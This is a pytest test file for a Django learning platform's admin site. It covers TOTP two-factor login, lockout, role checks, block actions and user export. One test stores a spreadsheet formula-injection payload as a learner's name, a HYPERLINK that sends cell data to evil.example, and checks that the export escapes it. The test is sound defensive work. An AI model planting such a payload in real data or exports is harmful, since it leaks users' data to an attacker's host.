"""``core/users/admin.py`` behind django-otp's admin site: password *and* TOTP code."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django_otp.oath import TOTP
from django_otp.plugins.otp_totp.models import TOTPDevice

from core.users.models import MentorProfile, User

pytestmark = pytest.mark.django_db

ADMIN_LOGIN = "/admin/login/?next=/admin/"


def _token(device: TOTPDevice) -> str:
    """The code the staff member's authenticator app shows right now."""
    totp = TOTP(device.bin_key, step=device.step, t0=device.t0, digits=device.digits, drift=device.drift)
    return str(totp.token()).zfill(device.digits)


def _wrong_token(device: TOTPDevice) -> str:
    right = int(_token(device))
    return str((right + 500_000) % 1_000_000).zfill(device.digits)


def _admin_login(client, user, password, device, token, ip="127.0.0.1"):
    return client.post(
        ADMIN_LOGIN,
        {
            "username": user.email,
            "password": password,
            "otp_device": device.persistent_id if device else "",
            "otp_token": token,
        },
        REMOTE_ADDR=ip,
    )


@pytest.fixture
def device(staff) -> TOTPDevice:
    return TOTPDevice.objects.get(user=staff)


@pytest.fixture
def admin_client_otp(client, staff, password, device):
    """A client logged into /admin/ the real way, with a TOTP code."""
    response = _admin_login(client, staff, password, device, _token(device))
    assert response.status_code == 302, response.context and response.context["form"].errors
    return client


def test_staff_logs_in_with_password_and_totp_code(client, staff, password, device):
    response = _admin_login(client, staff, password, device, _token(device))

    assert response.status_code == 302
    assert response["Location"] == "/admin/"
    assert client.session["_auth_user_id"] == str(staff.pk)
    response = client.get("/admin/")
    assert response.status_code == 200
    assert response.context["site_header"] == "PeerLearn administration"


def test_wrong_totp_code_is_refused(client, staff, password, device):
    response = _admin_login(client, staff, password, device, _wrong_token(device))

    assert response.status_code == 200
    assert response.context["form"].errors
    assert "_auth_user_id" not in client.session
    assert client.get("/admin/").status_code == 302


def test_password_alone_is_not_enough(client, staff, password, device):
    response = _admin_login(client, staff, password, device, "")

    assert response.status_code == 200
    assert client.get("/admin/").status_code == 302


def test_logged_in_without_otp_is_not_enough(client, staff):
    client.force_login(staff)

    response = client.get("/admin/")

    assert response.status_code == 302
    assert response["Location"] == "/accounts/two-factor/?next=/admin/"


def test_wrong_password_with_right_code_is_refused(client, staff, device):
    response = _admin_login(client, staff, "not-the-password", device, _token(device))

    assert response.status_code == 200
    assert "_auth_user_id" not in client.session


def test_learner_cannot_enter_admin(client, learner, password, device):
    # Even with someone else's device and code, a learner is not staff.
    response = _admin_login(client, learner, password, device, _token(device))

    assert response.status_code == 200
    assert response.context["form"].errors
    assert client.get("/admin/").status_code == 302


def test_learner_with_a_session_is_sent_to_admin_login(client, learner):
    client.force_login(learner)

    response = client.get("/admin/users/user/")

    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")


def test_admin_login_failures_count_towards_lockout(client, staff, password, device):
    for _ in range(5):
        _admin_login(client, staff, "not-the-password", device, _token(device), ip="10.1.1.1")

    response = _admin_login(client, staff, password, device, _token(device), ip="10.1.1.1")

    assert response.status_code == 429
    assert client.get("/admin/").status_code == 302
    # The lock holds that account from that address, not the account everywhere.
    assert _admin_login(client, staff, password, device, _token(device), ip="10.1.1.2").status_code == 302


def test_user_list_loads_and_searches(admin_client_otp, learner, mentor):
    response = admin_client_otp.get("/admin/users/user/")
    assert response.status_code == 200
    emails = {user.email for user in response.context["cl"].result_list}
    assert {learner.email, mentor.email} <= emails

    response = admin_client_otp.get("/admin/users/user/", {"q": "meera"})
    assert [user.email for user in response.context["cl"].result_list] == [mentor.email]


def test_user_list_filters_by_approval(admin_client_otp, mentor, other_mentor):
    MentorProfile.objects.filter(user=mentor).update(is_approved=True)

    response = admin_client_otp.get("/admin/users/user/", {"mentor_profile__is_approved__exact": "1"})

    assert [user.email for user in response.context["cl"].result_list] == [mentor.email]


@pytest.mark.parametrize("persona", ["learner", "mentor", "staff"])
def test_change_page_loads_with_the_role_profile(admin_client_otp, request, persona):
    user = request.getfixturevalue(persona)

    response = admin_client_otp.get(reverse("admin:users_user_change", args=[user.pk]))

    assert response.status_code == 200
    inline_models = [formset.formset.model.__name__ for formset in response.context["inline_admin_formsets"]]
    assert inline_models == {"learner": ["LearnerProfile"], "mentor": ["MentorProfile"], "staff": []}[persona]


def test_add_page_creates_a_user(admin_client_otp):
    response = admin_client_otp.post(
        reverse("admin:users_user_add"),
        {
            "email": "added@example.com",
            "name": "Added Person",
            "role": "learner",
            "usable_password": "true",
            "password1": "a-Long-enough-passphrase",
            "password2": "a-Long-enough-passphrase",
        },
    )

    assert response.status_code == 302, response.context["adminform"].form.errors
    user = User.objects.get(email="added@example.com")
    assert user.check_password("a-Long-enough-passphrase")


def test_the_approve_action_opens_the_queue(admin_client_otp, mentor, learner):
    response = admin_client_otp.post(
        "/admin/users/user/", {"action": "review_mentors", "_selected_action": [mentor.pk, learner.pk]}
    )
    assert response.status_code == 302
    assert response["Location"] == "/admin/console/mentors/queue/"  # decisions there (core/console/tests)


def test_block_action_asks_first_then_blocks_others_but_not_yourself(admin_client_otp, staff, learner):
    response = admin_client_otp.post(
        "/admin/users/user/", {"action": "block_users", "_selected_action": [learner.pk, staff.pk]}
    )
    assert response.status_code == 302
    confirm = response["Location"]
    assert confirm.startswith("/admin/console/people/block/?ids=")
    learner.refresh_from_db()
    assert learner.is_active  # nothing happens before staff confirm with a reason

    done = admin_client_otp.post(
        "/admin/console/people/block/", {"ids": confirm.split("=")[1], "reason": "Spam"}, follow=True
    )
    messages = [str(m) for m in done.context["messages"]]
    assert "Blocked 1 account(s)." in messages
    assert any("You cannot block yourself" in message for message in messages)
    learner.refresh_from_db()
    staff.refresh_from_db()
    assert not learner.is_active
    assert staff.is_active

    admin_client_otp.post("/admin/console/people/unblock/", {"ids": str(learner.pk), "reason": "Appeal upheld"})
    learner.refresh_from_db()
    assert learner.is_active


def test_export_users_as_csv(admin_client_otp, learner, mentor):
    export_url = reverse("admin:users_user_export")
    response = admin_client_otp.get(export_url)
    assert response.status_code == 200

    form = response.context["form"]
    csv_index = next(value for value, label in form.fields["format"].choices if label.lower() == "csv")
    data = {"resource": "0", "format": csv_index}
    data.update({name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)})
    response = admin_client_otp.post(export_url, data)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert list(rows[0]) == ["id", "email", "name", "role", "timezone", "is_active", "date_joined", "registered_at"]
    roles = {row["email"]: row["role"] for row in rows}
    assert roles[learner.email] == "learner"
    assert roles[mentor.email] == "mentor"
    assert not any("password" in column for column in rows[0])


def test_export_respects_the_search(admin_client_otp, learner, mentor):
    export_url = reverse("admin:users_user_export") + "?q=asha"
    form = admin_client_otp.get(export_url).context["form"]
    csv_index = next(value for value, label in form.fields["format"].choices if label.lower() == "csv")
    data = {"resource": "0", "format": csv_index}
    data.update({name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)})

    response = admin_client_otp.post(export_url, data)

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row["email"] for row in rows] == [learner.email]


def test_a_second_staff_member_has_their_own_device(client, password):
    from core.users import services

    other, other_device = services.staff_user_create(email="omar@example.com", name="Omar", password=password)

    response = _admin_login(client, other, password, other_device, _token(other_device))

    assert response.status_code == 302


@pytest.mark.parametrize("label", ["csv", "xlsx"])
def test_exported_names_never_run_as_formulas(admin_client_otp, learner, label):
    """A learner who names themselves like a formula is exported as text, in every format."""
    import tablib

    hostile = '=HYPERLINK("https://evil.example/?d="&B2,"Open")'
    learner.name = hostile
    learner.save(update_fields=["name"])
    export_url = reverse("admin:users_user_export") + "?q=asha"
    form = admin_client_otp.get(export_url).context["form"]
    index = next(value for value, text in form.fields["format"].choices if text.lower() == label)
    data = {"resource": "0", "format": index}
    data.update({name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)})

    response = admin_client_otp.post(export_url, data)

    assert response.status_code == 200
    dataset = tablib.Dataset().load(response.content.decode("utf-8-sig") if label == "csv" else response.content, label)
    assert [row["name"] for row in dataset.dict] == ["'" + hostile]
